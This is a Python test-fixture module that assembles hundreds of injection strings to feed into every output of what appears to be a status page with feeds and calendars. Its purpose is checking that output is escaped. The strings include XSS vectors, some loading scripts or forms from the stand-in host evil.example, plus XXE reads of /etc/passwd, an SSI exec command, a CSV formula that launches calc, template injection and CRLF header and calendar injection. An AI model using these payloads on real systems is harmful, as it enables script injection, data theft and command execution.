"""Texts that have broken pages, feeds and calendars of others; every output is fed with all."""

from __future__ import annotations

import re

_BREAKERS = (
    "", '">', "'>", "</title>", "</style>", "</script>", "-->", "]]>", "</textarea>", "</svg>",
    "</desc>", "<![CDATA[", "?>", "</td></table>", "</summary>", "<noscript><p title=\"</noscript>",
)  # fmt: skip
_VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>Sign in</button></form>",
)
_ALONE = (
    # attributes without a tag, and quotes that end one
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "` onload=`alert(1)",
    'x" style="background:url(//evil.example/x)', '" data-to="x" class="ember',
    # addresses
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    "//evil.example/", "https://evil.example/\"onclick=\"alert(1)",
    # Markdown
    "[click](javascript:alert(1))", "[click](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>", "![x](https://evil.example/x.png)", "![x](x \"onerror=alert(1)\")",
    "[x](https://a.example \"t' onclick='alert(1)\")", "[a]: javascript:alert(1)\n\n[a]",
    "[x](\u0001javascript:alert(1))", "[x](java&Tab;script:alert(1))", "`</code><script>alert(1)`",
    "```\n</pre><script>alert(1)</script>\n```", "# <img src=x onerror=alert(1)>",
    "> <svg/onload=alert(1)>", "<b onclick=alert(1)>b</b>", "*" * 300, "[" * 300, "> " * 150,
    # mutation, namespaces, foreign content
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style>", "<svg><foreignObject><body onload=alert(1)>",
    "<p id=now><form id=now>", "<template><script>alert(1)</script></template>",
    "<use href=data:image/svg+xml,x>", "<a xlink:href=javascript:alert(1)>x</a>",
    # entities
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&", "&amp",
    "&nosuch;", "&#0;", "&#xD800;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<?xml version='1.0'?><x/>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>", "<xi:include href='file:///etc/passwd'/>",
    # templates and other languages
    "{{ 7 * 7 }}", "{% raw %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{number}", "{0.__class__}", "%s%n%d", "<!--top-->", "<!--below-->", "<!--#exec cmd=id-->",
    # lines: calendars, headers, CSV
    "x\r\nATTACH:https://evil.example/x", "x\nEND:VEVENT\nBEGIN:VEVENT\nUID:1", "x\\nURL:evil",
    "x\r\n BEGIN:VALARM", "x;VALUE=URI:https://evil.example", "x\rX-EVIL:1", "x\u2028X-EVIL:1",
    "x\u0085X-EVIL:1", "x\x0bX-EVIL:1", "x\x0cX-EVIL:1", "x\x1eX-EVIL:1", "Set-Cookie: a=b\r\n\r\n<b>",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", '","x","', "\\", "\\;\\,\\N",
    # JSON and JavaScript
    '"}],"status":{"indicator":"none"},"x":[{"', "</script><script>alert(1)</script>", "*/alert(1)/*",
    "\\u003cscript\\u003e", "\\\"};alert(1)//", "__proto__", "constructor", "toString",
    # what nobody sees
    "null\x00byte", "bell\x07 escape\x1b[31m", "\u202egnirts desrever\u202c", "\u2066isolate",
    "lone \ud800 surrogate", "\udc00", "\ufffe\uffff", "\ufeffmark", "zero\u200bwidth\u200djoin",
    "e" + "\u0301" * 60, "\U000e0001\U000e0041 tags", "👩\u200d👩\u200d👧\u200d👧", "ＦＵＬＬ＜script＞", "שלום\u200f!",
    "\u3000", "長" * 80, "x" * 400, " ", "\t", "0",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(breaker + vector for breaker in _BREAKERS for vector in _VECTORS),
    *_ALONE,
)

STORABLE = tuple(text for text in PAYLOADS if not re.search("[\x00\ud800-\udfff]", text))
"""Those that the database can hold, so that they can arrive in a message."""
